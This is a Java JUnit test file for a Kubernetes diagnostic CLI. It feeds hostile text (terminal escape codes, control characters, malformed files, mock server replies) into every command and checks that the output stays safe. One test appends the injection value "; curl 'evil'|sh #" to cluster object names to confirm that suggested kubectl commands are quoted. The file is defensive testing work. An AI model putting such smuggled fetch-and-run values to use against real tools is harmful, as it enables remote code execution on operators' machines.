package dev.sluice.cli;

import static dev.sluice.cli.HostileText.HOSTILE;
import static dev.sluice.cli.HostileText.LEGAL;
import static dev.sluice.cli.HostileText.WORDS_OF_THE_API;
import static dev.sluice.cli.HostileText.appended;
import static dev.sluice.cli.HostileText.hostile;
import static dev.sluice.cli.HostileText.paths;
import static dev.sluice.cli.HostileText.safe;
import static dev.sluice.cli.HostileText.yaml;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever others write into a cluster, a file or an answer: no command lets it steer a terminal or forge a line. */
class HostileTextTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final YAMLMapper YAML = new YAMLMapper();
    private static final Path CLUSTER = Path.of("src/test/resources/report/cluster.yaml");
    private static final Path CASES = Path.of("src/test/resources/doctor");

    /** The objects whose keys others choose, some of which no API server takes. A file may have them all the same. */
    private static final Pattern MAPS = Pattern.compile(
            ".*/(labels|annotations|nodeSelector|matchLabels|capacity|allocatable|requests|limits|hard|used)");

    @TempDir
    private Path directory;

    private Path written(JsonNode cluster) throws IOException {
        return Files.write(directory.resolve("cluster.json"), JSON.writeValueAsBytes(cluster));
    }

    private void safeDoctor(Path cluster) throws IOException {
        Path report = directory.resolve("report.html");
        Cli run = safe(Cli.run("doctor", "--cluster-snapshot", cluster, "--report", report));
        if (run.code() == 0) {
            safe(Files.readString(report));
        }
    }

    static Stream<String> cases() throws IOException {
        try (Stream<Path> files = Files.list(CASES)) {
            return files.map(file -> file.getFileName().toString()).sorted().toList().stream();
        }
    }

    @ParameterizedTest
    @MethodSource("cases")
    void everyVerdictIsSafeWhereAllTextOfTheClusterIsHostile(String name) throws IOException {
        JsonNode cluster = YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);

        safeDoctor(written(hostile(cluster, "", WORDS_OF_THE_API)));
    }

    /** One case in sixteen is enough, because the keys are read in the same way in all of them. */
    static Stream<String> someCases() throws IOException {
        List<String> all = cases().toList();
        return IntStream.range(0, all.size()).filter(i -> i % 16 == 0).mapToObj(all::get);
    }

    @ParameterizedTest
    @MethodSource("someCases")
    void keysOfMapsAreSafe(String name) throws IOException {
        JsonNode cluster = YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);
        HostileText.addHostileKeys(cluster, "", MAPS);
        Path file = written(cluster);

        safeDoctor(file);
        Cli json = safe(Cli.run("doctor", "--cluster-snapshot", file, "-o", "json"));
        assertThat(json.code()).as(json.err()).isZero();
    }

    /** A cluster in which each of these maps matters for a verdict or a number. */
    private static final String MAPS_THAT_MATTER = """
            kind: List
            items:
            - kind: Node
              metadata: {name: n1, labels: {zone: a, nvidia.com/gpu.present: "true"}, annotations: {a: b}}
              status:
                capacity: {cpu: "8", nvidia.com/gpu: "2"}
                allocatable: {cpu: "8", nvidia.com/gpu: "2"}
                conditions: [{type: Ready, status: "True"}]
            - kind: Pod
              metadata: {namespace: a, name: selects, annotations: {a: b}}
              spec:
                nodeSelector: {zone: a}
                containers: [{name: c, resources: {requests: {nvidia.com/gpu: "1"}, limits: {nvidia.com/gpu: "1"}}}]
              status: {phase: Pending}
            - kind: Pod
              metadata: {namespace: a, name: avoids, labels: {app: a}}
              spec:
                affinity:
                  podAffinity:
                    requiredDuringSchedulingIgnoredDuringExecution:
                    - {topologyKey: zone, labelSelector: {matchLabels: {app: b}}}
                containers: [{name: c, resources: {requests: {nvidia.com/gpu: "1"}, limits: {nvidia.com/gpu: "1"}}}]
              status: {phase: Pending}
            - kind: ReplicaSet
              metadata: {namespace: a, name: set, uid: u}
              spec:
                replicas: 2
                template: {spec: {containers: [{name: c, resources: {requests: {nvidia.com/gpu: "1"}}}]}}
              status: {replicas: 0, conditions: [{type: ReplicaFailure, status: "True", reason: FailedCreate,
                message: 'exceeded quota: q, requested: requests.nvidia.com/gpu=1, used: requests.nvidia.com/gpu=1'}]}
            - kind: ResourceQuota
              metadata: {namespace: a, name: q}
              spec: {hard: {requests.nvidia.com/gpu: "1"}}
              status: {hard: {requests.nvidia.com/gpu: "1"}, used: {requests.nvidia.com/gpu: "1"}}
            """;

    @Test
    void eachKindOfMapByItselfMayHaveHostileKeys() throws IOException {
        Set<String> shown = new TreeSet<>();
        for (String kind : List.of(
                "labels",
                "annotations",
                "nodeSelector",
                "matchLabels",
                "capacity",
                "allocatable",
                "requests",
                "limits",
                "hard",
                "used")) {
            JsonNode cluster = YAML.readTree(MAPS_THAT_MATTER);
            HostileText.addHostileKeys(cluster, "", Pattern.compile(".*/" + kind));
            Path file = written(cluster);
            for (String command : List.of("doctor", "capacity", "explain -f " + file)) {
                for (String format : List.of("", " -o json")) {
                    List<Object> words = new ArrayList<>(List.of((command + format).split(" ")));
                    words.addAll(List.of("--cluster-snapshot", file));
                    Cli run = safe(Cli.run(words.toArray()));
                    assertThat(run.out() + run.err()).as(words.toString()).isNotBlank();
                    if (HostileText.isShown(run)) {
                        var _ = shown.add(command.replaceAll(" .*", "") + format + ": " + kind);
                    }
                    if (!format.isEmpty() && !run.out().isEmpty()) {
                        assertThat(JSON.readTree(run.out()).isObject()).isTrue();
                    }
                }
            }
        }
        assertThat(shown)
                .as("what is not shown at all is safe by chance")
                .contains(
                        "capacity: allocatable",
                        "capacity -o json: capacity",
                        "doctor: limits",
                        "doctor: nodeSelector",
                        "doctor -o json: requests",
                        "explain: requests",
                        "explain -o json: requests");
    }

    @Test
    void eachFieldByItselfMayBeHostile() throws IOException {
        JsonNode cluster = YAML.readTree(CLUSTER.toFile());
        Set<String> paths = paths(cluster, "", new TreeSet<>());
        assertThat(paths).hasSizeGreaterThan(80);

        for (String path : paths) {
            String others = "(?!" + Pattern.quote(path) + "$).*";
            Path file = written(hostile(cluster, "", Pattern.compile(others)));
            safeDoctor(file);
            safe(Cli.run("capacity", "--cluster-snapshot", file));
        }
    }

    @Test
    void everyCommandOnAClusterIsSafe() throws IOException {
        Path cluster = written(hostile(YAML.readTree(CLUSTER.toFile()), "", WORDS_OF_THE_API));
        Path pods = cluster;

        List<List<Object>> commands = List.of(
                List.of("doctor", "-o", "json"),
                List.of("doctor", "--pod", HOSTILE),
                List.of("doctor", "--node", "x" + HOSTILE),
                List.of("capacity"),
                List.of("capacity", "--by", "namespace"),
                List.of("capacity", "--by", "pod"),
                List.of("capacity", "-o", "json"),
                List.of("capacity", "--node", HOSTILE),
                List.of("capacity", "--resource", HOSTILE),
                List.of("explain", "-f", pods),
                List.of("explain", "-f", pods, "-o", "json"),
                List.of("explain", "-f", pods, "-o", "patch"),
                List.of("explain", "-f", pods, "-n", HOSTILE));
        for (List<Object> command : commands) {
            List<Object> words = new ArrayList<>(command);
            words.addAll(List.of("--cluster-snapshot", cluster));
            Cli run = safe(Cli.run(words.toArray()));
            assertThat(run.out() + run.err()).as(command.toString()).isNotBlank();
        }
        assertThat(JSON.readTree(Cli.run("doctor", "--cluster-snapshot", cluster, "-o", "json")
                                .out())
                        .at("/pods/0/name")
                        .asText())
                .as("JSON loses nothing")
                .endsWith(HOSTILE);
    }

    @Test
    void mistakesAreNamedSafely() throws IOException {
        Path named = directory.resolve("x" + LEGAL.replace("\u0000", ""));
        Path file = Files.writeString(
                directory.resolve("gateway.yaml"), yaml("a" + LEGAL) + ": " + yaml("b" + LEGAL) + "\n");
        Path broken = Files.writeString(directory.resolve("broken.json"), "{\"kind\": \"List" + "\", \u001b[2J\u202e");
        Path bundle = Files.writeString(
                directory.resolve("bundle.txt"),
                "--- sluice:node ---\nformat: 1" + LEGAL + "\nname: a100-mig-2\ntime: " + LEGAL);

        safe(Cli.run("check", "--config", file));
        safe(Cli.run("check", "--config", named));
        safe(Cli.run("check", named));
        for (Path each : List.of(named, broken, file)) {
            safe(Cli.run("doctor", "--cluster-snapshot", each));
            safe(Cli.run("capacity", "--cluster-snapshot", each));
            safe(Cli.run("explain", "-f", each, "--cluster-snapshot", CLUSTER));
            safe(Cli.run("certs", "show", each));
            safe(Cli.run("doctor", "--kubeconfig", each));
            safe(Cli.run("doctor", "--cluster-snapshot", CLUSTER, "--node-bundle", each));
        }
        safe(Cli.run("doctor", "--cluster-snapshot", CLUSTER, "--node-bundle", bundle));
        safe(Cli.run("doctor", "--cluster-snapshot", CLUSTER, "--report", named));
        safe(Cli.run("doctor", "--" + HOSTILE));
        safe(Cli.run("doctor", "-o", HOSTILE));
        safe(Cli.run("decisions", "--url", HOSTILE));
        safe(Cli.run("x" + HOSTILE));
    }

    @Test
    void answersOfAServerAreSafe() throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        String text = JSON.writeValueAsString(HOSTILE);
        String decision = ("{\"decisions\":[{\"id\":\"p-1\",\"time\":\"2026-11-23T12:00:00Z\",\"decision\":%1$s,"
                        + "\"reason\":%1$s,\"namespace\":%1$s,\"name\":%1$s,\"message\":%1$s,\"warnings\":[%1$s],"
                        + "\"changes\":[{\"from\":%1$s,\"to\":%1$s}]}]}")
                .formatted(text);
        List<String> bodies = List.of(decision, "{\"detail\":" + text + "}", HOSTILE);
        server.createContext("/", exchange -> {
            int number = Integer.parseInt(exchange.getRequestURI().getQuery().replaceAll(".*name=(\\d).*", "$1"));
            byte[] body = bodies.get(number).getBytes(UTF_8);
            exchange.sendResponseHeaders(number == 1 ? 403 : 200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        try {
            String url = "http://localhost:" + server.getAddress().getPort();
            for (int number = 0; number < bodies.size(); number++) {
                safe(Cli.run("decisions", "--url", url, "--pod", number));
                safe(Cli.run("decisions", "--url", url, "--pod", number, "-o", "json"));
            }
        } finally {
            server.stop(0);
        }
    }

    /** An Event about an object that does not exist makes a verdict, too, and a verdict has a command. */
    @Test
    void aNameInACommandToPasteIsOneWord() throws IOException {
        Set<String> commands = new TreeSet<>();
        for (String name : cases().filter(it -> it.matches("(failed|held|mig|plugin|quota|gated|claim).*"))
                .toList()) {
            JsonNode cluster =
                    YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);
            Path file = written(appended(cluster, "", WORDS_OF_THE_API, "; curl 'evil'|sh #"));
            Path report = directory.resolve("report.html");
            Cli run = Cli.run("doctor", "--cluster-snapshot", file, "--report", report);
            assertThat(run.code()).as(run.err()).isZero();
            List<String> next = run.out()
                    .lines()
                    .filter(line -> line.startsWith("  Next: "))
                    .map(line -> line.substring("  Next: ".length()))
                    .toList();
            commands.addAll(next);
            String html = Files.readString(report);
            assertThat(next)
                    .allMatch(command -> html.contains(
                            "<code>" + command.replace("'", "&#39;").replace(">", "&gt;") + "</code>"));
        }

        assertThat(commands).hasSizeGreaterThan(8);
        assertThat(commands.stream().map(command -> command.replace("\\'", "").replaceAll("'[^']*'", "WORD")))
                .allMatch(command -> command.matches("[A-Za-z0-9 .,/=-]*"))
                .anyMatch(command -> command.matches("kubectl -n (WORD)+ get pod (WORD)+ -o yaml"));
    }
}
